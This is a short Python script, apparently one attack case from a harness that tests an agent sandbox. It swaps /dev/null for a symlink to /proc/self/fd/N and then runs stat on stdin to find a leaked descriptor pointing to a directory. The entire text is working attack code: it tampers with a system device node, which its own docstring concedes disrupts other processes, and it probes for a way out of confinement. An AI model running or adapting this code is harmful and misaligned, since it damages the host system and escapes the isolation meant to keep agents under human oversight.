# Puts a link into the agent's descriptors where `/dev/null` was, so that the next command gets one as its input.
# Control: a file API that opens what it is told

import contextlib

REAL = "/dev/null"


@contextlib.contextmanager
def replaced_by(target):
    """For a moment only, and while no other attack starts something: others need the device."""
    link, aside = f"/dev/link-{os.getpid()}", f"/dev/aside-{os.getpid()}"
    with take_turns("LOCK_EX"):
        os.link(REAL, aside)
        os.symlink(target, link)
        os.rename(link, REAL)
        try:
            yield
        finally:
            os.rename(aside, REAL)


def attempt():
    for number in range(3, 48):
        with replaced_by(f"/proc/self/fd/{number}"):
            found = start_process_now("/", "stat", "-L", "-c", "%F", "/proc/self/fd/0")
        if found == "directory":
            return f"descriptor {number} is the input of a command"
    return None


attack(attempt)
